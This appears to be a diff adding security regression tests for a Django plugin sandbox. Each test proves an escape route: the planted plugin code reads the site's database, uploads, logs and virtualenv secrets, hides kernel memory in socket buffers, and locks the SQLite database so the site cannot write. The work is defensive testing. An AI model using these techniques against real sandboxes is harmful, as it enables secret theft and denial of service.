@@ -1,0 +1,449 @@
+"""Issue 30, round 20: an outside attack on the plugin sandbox and the trust pin.
+
+Each test here fails on the code it was written against (branch s12-attack20, on
+b1520e3): it is the proof of a way past the containment (the docstring gives the severity,
+the route and the gain).  Nothing is fixed here.  The tests run the codeprobe plugin
+(``tests/plugins/probe_site``) in its real sandbox and observe from the host side.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import sqlite3
+import tempfile
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from django_webfetch.plugins.runtime import bubblewrap
+
+pytestmark = pytest.mark.django_db
+
+_SECRET = "attack20-the-sites-secret"
+
+#: Reads every file under each of the directories given from inside the sandbox: which
+#: held the site's secret, and how many files it read (the control: they were bound).
+_READ_ALL = """\
+import json, os
+leaked, read = [], 0
+for root in %r:
+    for top, dirs, files in os.walk(root):
+        for name in files:
+            path = os.path.join(top, name)
+            try:
+                with open(path, 'rb') as fh:
+                    data = fh.read()
+            except OSError:
+                continue
+            read += 1
+            if %r in data:
+                leaked.append(path)
+result = json.dumps({'leaked': leaked, 'read': read})
+"""
+
+
+def _read_all(probe: Any, roots: list[str]) -> dict[str, Any]:
+    from django_webfetch.plugins.runtime.host import shutdown
+
+    try:
+        outcome = probe(_READ_ALL % (roots, _SECRET.encode()))
+    finally:
+        shutdown()
+    assert outcome.kind == "json", outcome
+    seen: dict[str, Any] = json.loads(json.loads(outcome.text)["result"])
+    return seen
+
+
+def _open_up(top: Path) -> None:
+    for path in [top, *sorted(top.rglob("*"))]:
+        if path.is_symlink():  # never through a link (a venv's python: the interpreter's)
+            continue
+        os.chmod(path, 0o755 if path.is_dir() else 0o644)
+
+
+def _write_project(base: Path, name: str, data: str) -> None:
+    """A Django project as ``startproject`` lays it out, its ``BASE_DIR`` being ``base``:
+    the settings package ``name`` (no secret in it: the secret is in the data), and its
+    ``data``: the SQLite database ``base/db.sqlite3`` (a user's session row holding the
+    secret), the ``MEDIA_ROOT`` ``base/media`` (an upload holding the secret) or its log
+    file ``base/logs/django.log`` (a line holding the secret)."""
+    package = base / name
+    package.mkdir(parents=True)
+    (package / "__init__.py").write_text("")
+    (package / "settings.py").write_text(
+        "from pathlib import Path\n"
+        "BASE_DIR = Path(__file__).resolve().parent.parent\n"
+        "DATABASES = {'default': {'ENGINE': 'django.db.backends.sqlite3',"
+        " 'NAME': BASE_DIR / 'db.sqlite3'}}\n"
+        "MEDIA_ROOT = BASE_DIR / 'media'\n"
+    )
+    if data == "database":
+        with sqlite3.connect(base / "db.sqlite3") as db:
+            db.execute("CREATE TABLE django_session (session_key TEXT, session_data TEXT)")
+            db.execute("INSERT INTO django_session VALUES (?, ?)", (_SECRET, "{}"))
+        db.close()
+    elif data == "log":
+        (base / "logs").mkdir()
+        (base / "logs" / "django.log").write_text(f"ERROR password reset token {_SECRET}\n")
+    else:
+        (base / "media" / "invoices").mkdir(parents=True)
+        (base / "media" / "invoices" / "customer-42.txt").write_text(f"IBAN {_SECRET}\n")
+    (base / "attack20_other.py").write_text("VALUE = 1\n")  # the control: readable
+    _open_up(base)
+
+
+@pytest.fixture
+def system_library_dir() -> Iterator[Path]:
+    """A directory made under ``/usr/local/lib`` (a system library directory the sandbox
+    binds whole: ``bubblewrap._system``), removed after the test."""
+    if not os.path.isdir("/usr/local/lib") or os.path.islink("/usr/local/lib"):
+        pytest.skip("no /usr/local/lib directory")
+    top = tempfile.mkdtemp(prefix="webfetch-attack20-", dir="/usr/local/lib")
+    try:
+        yield Path(top)
+    finally:
+        shutil.rmtree(top, ignore_errors=True)
+
+
+@pytest.mark.parametrize("data", ["database", "media", "log"])
+@pytest.mark.parametrize("layout", ["system-library-dir", "site-packages"])
+def test_the_sites_database_uploads_and_logs_beside_its_masked_settings_are_readable(
+    probe, system_library_dir, tmp_path, monkeypatch, settings, layout, data
+):
+    """Severity: Medium (the site's data: every user's session keys, password hashes, API
+    tokens and plugin configurations in the database, customers' uploads in
+    ``MEDIA_ROOT``; needs the project under a directory the sandbox binds, the layouts
+    rounds 6 and 19 already accepted: ``/usr/local/lib/<app>``, or ``pip install .`` into
+    ``site-packages``).  Route: the sandbox masks the site's *code* only (``bubblewrap.
+    _site_code``: the top-level packages of ``DJANGO_SETTINGS_MODULE`` and
+    ``ROOT_URLCONF``, ``WEBFETCH_PLUGIN_HIDDEN_PATHS``).  A project laid out as
+    ``startproject`` does (``BASE_DIR = Path(__file__).resolve().parent.parent``) keeps
+    its SQLite database (``DATABASES[...]['NAME'] = BASE_DIR / 'db.sqlite3'``) and its
+    uploads (``MEDIA_ROOT = BASE_DIR / 'media'``) and, often, its log files (``LOGGING``'s
+    ``FileHandler`` at ``BASE_DIR / 'logs'``) beside the settings package, i.e. in the
+    bound directory itself: the settings package is masked, the database, the media root
+    and the logs beside it are not, though the host knows each path from the very
+    settings it masks (docs/plugins.rst claims "nothing of the site: no project directory, settings
+    file, database file").  Gain: an untrusted plugin reads the whole database (a live
+    session key is a logged-in administrator's session; ``django_webfetch``'s own tables:
+    every instance's configuration), every upload and the logs, and sends them out through its
+    granted egress.  Expected: every file the site's settings name as its data
+    (``DATABASES`` SQLite ``NAME`` with its ``-wal``/``-shm``/``-journal``, ``MEDIA_ROOT``,
+    ``STATIC_ROOT``, ``FILE_UPLOAD_TEMP_DIR``, file caches, log files) is masked wherever
+    the sandbox binds it, like the site's code, or the sandbox is not built."""
+    top = system_library_dir if layout == "system-library-dir" else tmp_path
+    base = top / "mysite" if layout == "system-library-dir" else top / "lib" / "site-packages"
+    _write_project(base, "attack20_site", data)
+    _open_up(top)
+    monkeypatch.syspath_prepend(str(base))
+    if layout == "site-packages":
+        assert os.path.realpath(base) in bubblewrap.site_dirs()
+    monkeypatch.setenv("DJANGO_SETTINGS_MODULE", "attack20_site.settings")
+    settings.WEBFETCH_PLUGIN_HIDDEN_PATHS = []
+    # The host's settings name the site's data as the site's settings module does.
+    if data == "database":
+        monkeypatch.setitem(
+            settings.DATABASES,
+            "attack20",
+            {"ENGINE": "django.db.backends.sqlite3", "NAME": base / "db.sqlite3"},
+        )
+    elif data == "log":
+        settings.LOGGING = {
+            "version": 1,
+            "disable_existing_loggers": False,
+            "handlers": {
+                "file": {
+                    "class": "logging.FileHandler",
+                    "filename": str(base / "logs" / "django.log"),
+                }
+            },
+        }
+    else:
+        settings.MEDIA_ROOT = str(base / "media")
+    masked = bubblewrap.hidden_paths([os.path.realpath(base)], [])
+    assert os.path.realpath(base / "attack20_site") in masked, "the settings are masked"
+    seen = _read_all(probe, [str(base)])
+    assert seen["read"], seen  # the control: the directory is bound and readable
+    assert seen["leaked"] == [], f"the site's {data} is readable in the sandbox: {seen['leaked']}"
+
+
+@pytest.mark.parametrize("kernel", ["landlock", "no-landlock"])
+def test_the_sites_virtualenv_root_under_a_system_library_directory_is_readable(
+    system_library_dir, kernel
+):
+    """Severity: Medium (the ``SECRET_KEY``, database URL and API keys many deployment
+    guides export from ``bin/activate`` or keep in an env file at the virtualenv's root;
+    needs the site's virtualenv under ``/usr/lib``, ``/usr/local/lib``, ``/lib``: a
+    distribution's package layout, ``dh-virtualenv`` configured for ``/usr/lib/<app>``, an
+    image that keeps its application under ``/usr/local/lib/<app>``).  Route: round 6
+    (finding 2) stopped binding the virtualenv's root: only its ``site-packages`` is
+    bound (``bubblewrap._python_dirs``), and docs/plugins.rst claims the sandbox shows
+    "never the rest of its prefix, nor the root of the site's virtual environment, where
+    ``bin/activate`` and env files may export ``SECRET_KEY``".  But the system library
+    directories are bound whole (``bubblewrap._system``) and are whole Landlock read
+    rules (``guest.read_paths``), and round 19 masks only the site's *code* under them:
+    a virtualenv there has its root, ``bin/activate`` and the env file beside it readable,
+    with Landlock and without.  Gain: an untrusted plugin reads the site's secret key and
+    credentials.  Expected: the virtualenv's root (``sys.prefix`` when it is not
+    ``sys.base_prefix``) is masked wherever a system bind holds it, but for its package
+    directories, or the sandbox is not built (``site_code_unmaskable``)."""
+    import subprocess
+    import sys
+
+    import django_webfetch
+    from tests.plugins.test_issue30_attack6_runtime import _READER, _VENV_HOST, _plugin
+
+    venv = system_library_dir / "venv"
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(venv)], check=True,
+                   timeout=120)  # fmt: skip
+    with open(venv / "bin" / "activate", "a") as fh:
+        fh.write(f'\nexport DJANGO_SECRET_KEY="{_SECRET}"\n')
+    (venv / "mysite.env").write_text(f"SECRET_KEY={_SECRET}\n")
+    _open_up(system_library_dir)
+    origin = _plugin(system_library_dir / "plugins", "webfetch_a20_reader", "a20reader",
+                     _READER, {"read": "read"})  # fmt: skip
+    _open_up(system_library_dir)
+    root = os.path.dirname(os.path.dirname(os.path.abspath(django_webfetch.__file__)))
+    done = subprocess.run(
+        [str(venv / "bin" / "python"), "-c", _VENV_HOST, origin.path, origin.top_level, kernel],
+        capture_output=True, text=True, timeout=120, cwd=root, start_new_session=True,
+        env={**os.environ, "PYTHONPATH": ":".join([root, *bubblewrap.site_dirs()])},
+        check=False,
+    )  # fmt: skip
+    assert done.returncode == 0, done.stderr[-3000:]
+    report = json.loads(done.stdout.strip().splitlines()[-1])
+    assert report["prefix"] == str(venv), report
+    assert report["kind"] == "json", report
+    assert bool(report["landlock"]) is (kernel == "landlock"), report
+    seen = json.loads(report["text"])
+    assert any(str(venv) in path for path in seen), seen  # the plugin found the site's venv
+    assert _SECRET not in report["text"], f"a plugin read the site's virtualenv: {seen}"
+
+
+#: A plugin that makes stream socketpairs at import (``socketpair`` is allowed: asyncio's
+#: self-pipe), all empty when it gets ready; ``keep`` keeps ``kib`` KiB more resident, and
+#: ``fill`` queues bytes in both directions of every pair, to each sender's default send
+#: buffer: kernel memory in no ``VmRSS``, in descriptors the process held at ready.
+_PAIRS_AT_IMPORT = """
+import json, socket, sys
+
+_PAIRS = []
+for _ in range(12):
+    _a, _b = socket.socketpair()
+    _a.setblocking(False)
+    _b.setblocking(False)
+    _PAIRS.append((_a, _b))
+_KEPT = []
+
+
+def keep(plugin, arguments):
+    block = bytearray(int(arguments["kib"]) << 10)
+    for i in range(0, len(block), 4096):
+        block[i] = 1
+    _KEPT.append(block)
+    return str(len(block))
+
+
+def fill(plugin, arguments):
+    queued = 0
+    for a, b in _PAIRS:
+        for sender in (a, b):
+            try:
+                while True:
+                    queued += sender.send(b"x" * 65536)
+            except BlockingIOError:
+                pass
+    return json.dumps({"queued": queued})
+"""
+
+
+def test_socketpairs_made_at_import_and_filled_by_a_call_keep_kernel_memory_in_a_pooled_process(
+    tmp_path,
+):
+    """Severity: Low (kernel memory past the pool's idle bound, as round 18's finding 2,
+    whose fix this passes).  Route: round 18 made the pool compare the descriptors a
+    process holds with those it held at ready by identity (number, link, dev/inode,
+    ``fdinfo`` but ``pos``: ``host._descriptors``), so a call can no longer swap in a full
+    socket.  But a socket's queued bytes are in none of these: a plugin makes stream
+    socketpairs at import (allowed: ``socketpair(AF_UNIX, SOCK_STREAM)``; up to
+    ``guest.MAX_FILES`` descriptors), all empty at ready; a call fills both directions
+    of each to the default send buffer.  The process holds exactly the descriptors it
+    held at ready, its ``VmRSS`` did not move, and it is pooled with the queued bytes on
+    top of the ``MAX_IDLE_GROWTH`` it may keep resident (measured here: 12 pairs, ~5 MiB
+    queued; 14 pairs fit ``MAX_FILES``).  Gain: kernel memory outside every limit kept by
+    every idle process of the pool (up to ``MAX_IDLE_PROCESSES``) for as long as no call
+    comes.  Expected: a pooled process holds at most ``MAX_IDLE_GROWTH`` more than at
+    ready whatever the memory's kind: a socket's queue counted (``SIOCOUTQ``/``SIOCINQ``
+    read by the host through ``pidfd_getfd``, or ``/proc/<pid>/net``'s unix queues
+    ``sock_diag``), or a process holding a socket besides its channel never pooled."""
+    from django_webfetch.plugins.runtime import host
+    from django_webfetch.plugins.runtime.host import MAX_IDLE_GROWTH, Limits, execute, shutdown
+    from tests.plugins.test_issue30_attack6_runtime import _plugin
+
+    origin = _plugin(tmp_path / "site", "webfetch_a20_pairs", "a20pairs", _PAIRS_AT_IMPORT,
+                     {"keep": "keep", "fill": "fill"})  # fmt: skip
+    limits = Limits(5, 20, 256 << 20, 1 << 16, 5, 1)
+    key = ("a20-pairs", 1)
+
+    def call(tool: str, **arguments: Any) -> str:
+        message = {"tool": tool, "arguments": arguments, "config": {}, "plugin": "a20pairs",
+                   "alias": "a20pairs", "reference": "a20pairs"}  # fmt: skip
+        outcome = execute(origin, key, message, None, limits=limits)
+        assert outcome.kind in ("text", "json"), outcome
+        return str(outcome.text)
+
+    def pooled() -> Any:
+        workers = [w for idle in host._pool._idle.values() for w in idle]
+        assert len(workers) <= 1, workers
+        return workers[0] if workers else None
+
+    def growth(worker: Any) -> int:
+        now = host._footprint(worker.pid)
+        assert now is not None
+        return int(now - worker.footprint)
+
+    shutdown()
+    try:
+        call("keep", kib=64)
+        worker = pooled()
+        assert worker is not None, "the pool keeps an idle process"
+        # Resident memory up to just under the bound, in steps that each keep it pooled.
+        while MAX_IDLE_GROWTH - growth(worker) > 600 << 10:
+            call("keep", kib=max(64, (MAX_IDLE_GROWTH - growth(worker) - (400 << 10)) >> 10))
+            worker = pooled()
+            assert worker is not None, "a call under the bound keeps its process"
+        descriptors = worker.descriptors
+        queued = int(json.loads(call("fill"))["queued"])
+        assert queued > 1 << 20, queued
+        kept = pooled()
+        if kept is not None:
+            assert kept.pid == worker.pid
+            assert host._descriptors(kept.pid) == descriptors
+            held = growth(kept) + queued
+            assert held <= MAX_IDLE_GROWTH, (
+                f"a pooled process holds {held >> 10} KiB more than when it got ready "
+                f"({queued >> 10} KiB of it queued in socket buffers made at import), over "
+                f"the {MAX_IDLE_GROWTH >> 10} KiB bound"
+            )
+    finally:
+        shutdown()
+
+
+@pytest.fixture
+def base_site_packages() -> Iterator[Path]:
+    """A directory made in the *base* interpreter's ``site-packages`` (the one a virtual
+    environment's site does not import from: ``include-system-site-packages = false``),
+    removed after the test; skipped where the site runs from no virtual environment."""
+    import sys
+    import sysconfig
+
+    if sys.prefix == sys.base_prefix:
+        pytest.skip("the site runs from no virtual environment")
+    base = sysconfig.get_paths(vars={"base": sys.base_prefix, "platbase": sys.base_prefix})
+    purelib = os.path.realpath(base["purelib"])
+    if not os.path.isdir(purelib) or purelib in bubblewrap.site_dirs():
+        pytest.skip("no base site-packages apart from the site's")
+    top = tempfile.mkdtemp(prefix="webfetch_attack20_", dir=purelib)
+    try:
+        yield Path(top)
+    finally:
+        shutil.rmtree(top, ignore_errors=True)
+
+
+def test_the_base_interpreters_site_packages_is_readable_from_a_virtualenv_site(
+    probe, base_site_packages, settings
+):
+    """Severity: Low (another project's code and settings installed globally on the same
+    machine: a second site, a ``sudo pip install .``, a tool's credentials module; needs a
+    site run from a virtual environment over an interpreter with a global
+    ``site-packages``, as pyenv, a ``python:3.x`` image or ``/usr/local`` builds have).
+    Route: the sandbox binds the standard library as one directory (``bubblewrap.
+    _python_dirs``: ``dirname(os.__file__)``), and the guest's Landlock rules read it
+    whole (``guest.read_paths``: ``sysconfig``'s ``stdlib``); the base interpreter's
+    ``site-packages`` lies inside it (``<prefix>/lib/python3.X/site-packages``).  A site
+    run from a virtual environment (``include-system-site-packages = false``) never
+    imports from it, so it is none of the site's package directories, none of its code is
+    ever found as the site's (``_site_code`` looks on the site's ``sys.path``), and yet
+    every file of it is readable in the sandbox: docs/plugins.rst claims the interpreter
+    shows "its executable, standard library and ``libpython``; never the rest of its
+    prefix".  Gain: an untrusted plugin reads whatever the machine installed globally
+    (here: a second site's settings).  Expected: the base interpreter's package
+    directories that are not the site's are masked (or left out of the bind and of the
+    Landlock rules) like any other path outside the interpreter's standard library."""
+    package = base_site_packages / "othersite"
+    package.mkdir()
+    (package / "__init__.py").write_text("")
+    (package / "settings.py").write_text(f"SECRET_KEY = {_SECRET!r}\n")
+    _open_up(base_site_packages)
+    settings.WEBFETCH_PLUGIN_HIDDEN_PATHS = []
+    seen = _read_all(probe, [str(base_site_packages)])
+    assert seen["leaked"] == [], (
+        f"the base interpreter's site-packages is readable in the sandbox: {seen['leaked']}"
+    )
+
+
+#: A plugin that, at import, opens the site's SQLite database read-only (a path it found
+#: in the bound directory) and takes a POSIX read lock on SQLite's SHARED byte range, as a
+#: reader in a transaction does; its one tool does nothing.  The descriptor and its lock
+#: are the process's as it got ready, so a pooled process keeps both, stopped.
+_LOCKS_THE_DATABASE = """
+import fcntl, os
+
+_DB = os.open({db!r}, os.O_RDONLY)
+fcntl.lockf(_DB, fcntl.LOCK_SH | fcntl.LOCK_NB, 510, 0x40000002)
+
+
+def noop(plugin, arguments):
+    return "ok"
+"""
+
+
+def test_a_plugin_holds_a_lock_on_the_sites_database_and_the_site_cannot_write(
+    system_library_dir,
+):
+    """Severity: Medium (every write of the site fails while any process of the plugin
+    lives: sign-ins, sessions, every form; needs the layout of
+    ``test_the_sites_database_uploads_and_logs_beside_its_masked_settings_are_readable``,
+    whose finding this extends from reading to denial of service).  Route: the site's
+    SQLite database is readable in the sandbox, and ``fcntl(F_SETLK)`` is allowed
+    (``bubblewrap.FCNTL_COMMANDS``: a read lock needs only a read-only descriptor; Landlock
+    does not govern locks).  A plugin opens the database at import and takes a read lock
+    on SQLite's SHARED range; POSIX locks are on the host's inode, so every writer of the
+    site waits for its EXCLUSIVE lock and fails ``database is locked``.  The descriptor
+    and its lock are what the process held at ready (``host._descriptors``' ``fdinfo``
+    unchanged), so the pool keeps the process, stopped, with the lock, for as long as it
+    idles, and the next plugin process takes it again at its import.  Gain: the site's
+    database made read-only for as long as the plugin is installed.  Expected: the
+    database is not in the sandbox (masked, as its finding asks); and a process holding a
+    lock on a file outside its own ``/tmp`` is not pooled."""
+    from django_webfetch.plugins.runtime.host import Limits, execute, shutdown
+    from tests.plugins.test_issue30_attack6_runtime import _plugin
+
+    base = system_library_dir / "mysite"
+    _write_project(base, "attack20_site", "database")
+    _open_up(system_library_dir)
+    db = base / "db.sqlite3"
+    origin = _plugin(system_library_dir / "plugins", "webfetch_a20_locker", "a20locker",
+                     _LOCKS_THE_DATABASE.format(db=str(db)), {"noop": "noop"})  # fmt: skip
+    _open_up(system_library_dir)
+    limits = Limits(5, 20, 256 << 20, 1 << 16, 5, 1)
+    message = {"tool": "noop", "arguments": {}, "config": {}, "plugin": "a20locker",
+               "alias": "a20locker", "reference": "a20locker"}  # fmt: skip
+    shutdown()
+    try:
+        outcome = execute(origin, ("a20-locker", 1), message, None, limits=limits)
+        assert outcome.text == "ok", outcome
+        site = sqlite3.connect(db, timeout=0)
+        try:
+            site.execute("INSERT INTO django_session VALUES ('k', '{}')")
+            site.commit()
+        except sqlite3.OperationalError as exc:
+            pytest.fail(f"the site cannot write its own database: {exc}")
+        finally:
+            site.close()
+    finally:
+        shutdown()
